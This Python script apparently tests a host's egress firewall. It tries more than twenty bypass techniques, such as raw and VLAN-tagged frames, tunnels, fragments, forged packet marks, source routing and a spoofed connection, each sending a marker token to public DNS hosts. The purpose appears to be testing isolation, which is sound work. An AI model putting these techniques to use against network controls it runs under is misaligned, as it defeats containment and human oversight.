# Ways past a guard of the host that goes by marks: each says a name that nobody else says, which is looked for in the packets of the host.
import os, signal, socket, struct, sys

PUBLIC, PUBLIC6 = "8.8.8.8", "2001:4860:4860::8888"


def question(token):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in (token, "probe", "example", "net"))
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


def udp(token, source=40000, port=53):
    data = question(token)
    return struct.pack("!HHHH", source, port, 8 + len(data), 0) + data


def ipv4(data, protocol=17, to=PUBLIC, offset=0):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), 7, offset, 64, protocol, 0, bytes(4), socket.inet_aton(to)) + data


def ipv6(data, following=17):
    return struct.pack("!IHBB16s16s", 0x60000000, len(data), following, 64, socket.inet_pton(socket.AF_INET6, "2a12:4940::99"), socket.inet_pton(socket.AF_INET6, PUBLIC6)) + data


def frame(kind, data, claimed=None):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("uplink", claimed or kind))
    return s.send(b"\xff" * 6 + b"\2\0\0\0\0\1" + struct.pack("!H", kind) + data)


def headers(token):  # the program writes the header, and nothing gathers its fragments
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, 22, 1)  # IP_NODEFRAG
    whole = udp(token)
    s.sendto(ipv4(whole[:8], offset=0x2000), (PUBLIC, 0))
    return s.sendto(ipv4(whole[8:], offset=1), (PUBLIC, 0))


def tunnel(protocol, before=b""):
    return lambda token: socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).sendto(before + ipv4(udp(token)), (PUBLIC, 0))


def plain(at, mark=0, family=socket.AF_INET, options=(), before=b"", source=None):
    def attack(token):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for option in options:
            s.setsockopt(*option)
        if mark:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark)
        if source:
            s.bind(("", source))
        return s.sendto(before + question(token), at)
    return attack


def ping6(token):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    return s.sendto(b"\x80\0\0\0\0\0\0\0" + token.encode(), (PUBLIC6, 0))


def marked_ping(token):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 119)
    return s.sendto(b"\x08\0\0\0\0\0\0\0" + token.encode(), (PUBLIC, 0))


def spoofed(token):  # a connection that seems to come from outside, so that what goes there is its answer
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((PUBLIC6, 443))
    s.setblocking(False)
    own = sys.argv[1]
    s.connect_ex((own, 4321))
    back = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    back.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
    back.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    back.setblocking(False)
    back.bind((own, 4321))
    return back.sendto(question(token), socket.MSG_FASTOPEN, (PUBLIC6, 443))


ROUTE4 = b"\x83\x07\x04" + socket.inet_aton(PUBLIC) + b"\0"  # a loose source route by it (RFC 791)
ROUTE6 = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, PUBLIC6)  # SRH (RFC 8754)

ATTACKS = {
    "fragments": headers, "IP in IP": tunnel(4), "GRE": tunnel(47, b"\0\0\x08\0"), "ESP": tunnel(50),
    "a frame": lambda t: frame(0x800, ipv4(udp(t))), "a frame of IPv6": lambda t: frame(0x86dd, ipv6(udp(t))),
    "a frame that is claimed to be ARP": lambda t: frame(0x800, ipv4(udp(t)), 0x806),
    "a frame of a VLAN": lambda t: frame(0x8100, b"\0\7\x08\0" + ipv4(udp(t))),
    "a frame of two VLANs": lambda t: frame(0x88a8, b"\0\7\x81\0\0\7\x08\0" + ipv4(udp(t))),
    "a frame of PPPoE": lambda t: frame(0x8864, b"\x11\0\0\1" + struct.pack("!HH", len(ipv4(udp(t))) + 2, 0x21) + ipv4(udp(t))),
    "a frame of MPLS": lambda t: frame(0x8847, b"\0\1\1\x40" + ipv4(udp(t))),
    "a frame of SNAP": lambda t: frame(8 + len(ipv4(udp(t))), b"\xaa\xaa\3\0\0\0\x08\0" + ipv4(udp(t))),
    "a frame of DHCP to a stranger": lambda t: frame(0x800, ipv4(udp(t, 68, 67))),
    "a tagged frame of DHCP to a stranger": lambda t: frame(0x8100, b"\0\7\x08\0" + ipv4(udp(t, 68, 67))),
    "DHCP to a stranger": plain((PUBLIC, 67), source=68),
    "a mark, to a resolver": plain((PUBLIC, 53), 119), "a mark that looks passed": plain((PUBLIC, 4433), 0x40000000),
    "a mark that looks wrapped": plain((PUBLIC, 53), 0x40000077),
    "a marked ping": marked_ping, "a ping over IPv6": ping6,
    "a source route": plain(("9.9.9.9", 4433), options=[(socket.IPPROTO_IP, socket.IP_OPTIONS, ROUTE4)]),
    "segments": plain((PUBLIC6, 4433), family=socket.AF_INET6, options=[(socket.IPPROTO_IPV6, 57, ROUTE6)]),
    "a broadcast": plain(("255.255.255.255", 4433)), "a multicast": plain(("239.1.2.3", 4433)),
    "a multicast of the link": plain(("ff02::1", 4433, 0, socket.if_nametoindex("uplink")), family=socket.AF_INET6),
    "an answer to nobody": spoofed,
}

if __name__ == "__main__":
    for wanted in sys.argv[2:]:
        attack, token = wanted.split("=")
        if os.fork() == 0:
            signal.alarm(20)
            try:
                outcome = ATTACKS[attack](token)
            except Exception as e:
                outcome = f"{type(e).__name__}: {e}"
            os.write(1, f"{attack}: {outcome}\n".encode())
            os._exit(0)
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break
